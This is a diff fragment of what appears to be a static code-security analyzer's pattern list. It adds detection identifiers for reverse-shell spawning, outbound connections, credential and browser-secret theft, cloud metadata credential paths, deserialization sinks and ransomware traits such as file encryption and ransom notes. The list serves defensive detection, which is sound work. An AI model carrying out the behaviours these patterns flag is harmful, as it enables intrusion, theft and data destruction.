     PICKLE, YAML_LOAD, YAML_SAFE_LOADER, JAVA_OIS, DOTNET_DESER, PHP_UNSERIALIZE, PHP_ALLOWED_FALSE, NODE_SERIALIZE, RUBY_MARSHAL, ...CRED_CHECKS, BACKDOOR_WORD,
     NOT_CREDENTIAL, KEYHOOK, DOM_KEYS, SCREEN, NETWORK, PASSWORD_FIELD, BROWSER_SECRET, ...probePatterns([BROWSER_SEND]), CRED_FILE, ...DESTRUCT, WALK_DELETE, CRONTAB_PIPE,
-    CHARCODE_CHAIN, CHARCODE_EXEC, SHELLISH, /\s|\(/g, /getinputstream|socket|request|readobject/i, /\.unserialize\s{0,4}\(/i, / or /, /["'\s)]/g,
+    CHARCODE_CHAIN, CHARCODE_EXEC, SHELLISH, FIXED_PROGRAM, INTERPRETER, SHELL_OPTION, TEMPLATE_SINK, ...probePatterns([INCLUDE_SINK]), PHP_DYN_CALL, ...BACKTICK_NEEDLES.map((e) => e[1]),
+    RAW_IP_URL, EXE_TAIL, OFFENSIVE_TOOL, RUN_IT, ENV_READ, HEX_LITERAL, HEX_BYTE, FETCH_ASSIGN, EXEC_NAMED, PHP_CODE_FN, PREG_E, ...probePatterns([PHP_CALLBACK]), QUOTED_ASSIGN, QUOTE_CALL, INTERP_NAME, OUT_CONNECT, SHELL_SPAWN, SPLIT_PIECES, SPLIT_PIECE, DYNAMIC_BUILTIN, ...HTTP_SINKS, HOST_FROM_VAR, SOURCES_LEAD, CLOUD_META_URL, META_CRED_PATH,
+    ...SECURITY_OFF, ENCRYPT_FILES, REMOVE_ORIGINAL, RANSOM_NOTE, QUOTE_CHAR, LOCAL_SOURCE, /\s|\(/g, /getinputstream|socket|request|readobject/i, /\.unserialize\s{0,4}\(/i, / or /, /["'\s)]/g,
   ],
 };
 export default codeAnalyzer;
